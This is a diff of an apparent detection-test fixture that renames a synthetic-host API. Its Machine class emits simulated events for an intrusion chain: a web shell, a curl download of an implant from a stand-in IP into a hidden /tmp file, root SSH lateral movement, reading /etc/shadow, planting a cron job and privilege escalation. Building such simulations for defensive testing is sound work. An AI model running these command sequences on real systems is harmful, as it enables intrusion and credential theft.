@@ -1,5 +1,11 @@
 import { defined } from '@ringfence/base';
-import { credentialsOf, O, TestHost, type TestHostOptions, type TestProcess } from '@ringfence/testkit';
+import {
+  credentialsOf,
+  O,
+  SyntheticHost,
+  type SyntheticHostOptions,
+  type SyntheticProcess,
+} from '@ringfence/synthetic';
 
 /** Above the largest pid of any kernel, so that a command against a simulated process can't reach a real process. */
 const FIRST_PID = 5_000_000;
@@ -8,7 +14,7 @@ const WEB_USER = 33;
 /** µs between two events of one step. */
 const STEP_US = 20;
 
-export interface MachineOptions extends Pick<TestHostOptions, 'hostId' | 'bootId' | 'run' | 'key'> {
+export interface MachineOptions extends Pick<SyntheticHostOptions, 'hostId' | 'bootId' | 'run' | 'key'> {
   /** From 1; name and address of the machine contain it. */
   readonly number: number;
   /** Time of its boot, µs since the epoch. */
@@ -19,12 +25,12 @@ export interface MachineOptions extends Pick<TestHostOptions, 'hostId' | 'bootId
 
 /** A machine that exists only in its events: a web server in a container, sshd, and cron jobs. */
 export class Machine {
-  readonly host: TestHost;
+  readonly host: SyntheticHost;
   readonly number: number;
   readonly address: string;
-  readonly #sshd: TestProcess;
-  readonly #cron: TestProcess;
-  #web: TestProcess;
+  readonly #sshd: SyntheticProcess;
+  readonly #cron: SyntheticProcess;
+  #web: SyntheticProcess;
   #pid = FIRST_PID;
   #port = 20_000;
   #requests = 0;
@@ -33,7 +39,7 @@ export class Machine {
   constructor({ number, bootedAt, startedAt, ...identity }: MachineOptions) {
     this.number = number;
     this.address = `10.77.${number >> 8}.${number & 0xff}`;
-    this.host = new TestHost({ ...identity, step: STEP_US, wallOffset: bootedAt, ktime: startedAt - bootedAt });
+    this.host = new SyntheticHost({ ...identity, step: STEP_US, wallOffset: bootedAt, ktime: startedAt - bootedAt });
     const { host } = this;
     host.user(0, 'root');
     host.user(WEB_USER, 'www-data');
@@ -46,17 +52,17 @@ export class Machine {
     this.#web = this.#serveWeb();
   }
 
-  #serveWeb(): TestProcess {
+  #serveWeb(): SyntheticProcess {
     const server = this.host.fork(this.host.init, { pid: this.#pid++, cgroup: CONTAINER });
     server.credentials = credentialsOf(WEB_USER);
     return this.host.exec(server, '/usr/sbin/nginx', { credentials: server.credentials });
   }
 
-  fork(parent: TestProcess): TestProcess {
+  fork(parent: SyntheticProcess): SyntheticProcess {
     return this.host.fork(parent, { pid: this.#pid++ });
   }
 
-  spawn(parent: TestProcess, path: string, argv?: readonly string[]): TestProcess {
+  spawn(parent: SyntheticProcess, path: string, argv?: readonly string[]): SyntheticProcess {
     const values = { credentials: parent.credentials, ...defined({ argv }) };
     return this.host.exec(this.fork(parent), path, values);
   }
@@ -94,7 +100,7 @@ export class Machine {
   }
 
   /** Restarts the web server, so that each attack is an incident of its own, and makes it run a shell. */
-  webShell(): TestProcess {
+  webShell(): SyntheticProcess {
     this.host.exit(this.#web);
     this.#web = this.#serveWeb();
     this.#implants++;
@@ -102,7 +108,7 @@ export class Machine {
   }
 
   /** Makes the shell download a program and run it. Returns the process of that program. */
-  implant(shell: TestProcess): TestProcess {
+  implant(shell: SyntheticProcess): SyntheticProcess {
     const { host } = this;
     const path = `/tmp/.x${this.#implants}`;
     const curl = this.spawn(shell, '/usr/bin/curl', ['curl', '-s', '-o', path, 'http://203.0.113.9/implant']);
@@ -115,30 +121,30 @@ export class Machine {
   }
 
   /** Logs in from `shell` to another machine by SSH. Returns the shell on that machine. */
-  login(shell: TestProcess, to: Machine): TestProcess {
+  login(shell: SyntheticProcess, to: Machine): SyntheticProcess {
     const port = this.nextPort();
     const client = this.spawn(shell, '/usr/bin/ssh', ['ssh', `root@${to.address}`]);
     this.host.connect(client, to.address, 22, { localAddress: this.address, localPort: port });
     return to.#accept(this.address, port);
   }
 
-  #accept(address: string, port: number): TestProcess {
+  #accept(address: string, port: number): SyntheticProcess {
     this.host.accept(this.#sshd, { address, port }, { address: this.address, port: 22 });
     const session = this.spawn(this.#sshd, '/usr/lib/openssh/sshd-session', ['sshd-session', '-R']);
     return this.spawn(this.fork(session), '/bin/bash', ['-bash']);
   }
 
-  readHashes(shell: TestProcess): void {
+  readHashes(shell: SyntheticProcess): void {
     const cat = this.spawn(shell, '/usr/bin/cat', ['cat', '/etc/shadow']);
     this.host.open(cat, '/etc/shadow');
     this.host.exit(cat);
   }
 
-  plantJob(shell: TestProcess): void {
+  plantJob(shell: SyntheticProcess): void {
     this.host.open(shell, '/etc/cron.d/update', O.WRONLY | O.CREAT);
   }
 
-  becomeRoot(process: TestProcess): void {
+  becomeRoot(process: SyntheticProcess): void {
     this.host.credentials(process, { ...credentialsOf(0), uid: WEB_USER });
     this.host.exec(process, '/opt/shop/backup-helper', {
       argv: ['/opt/shop/backup-helper', '-p'],
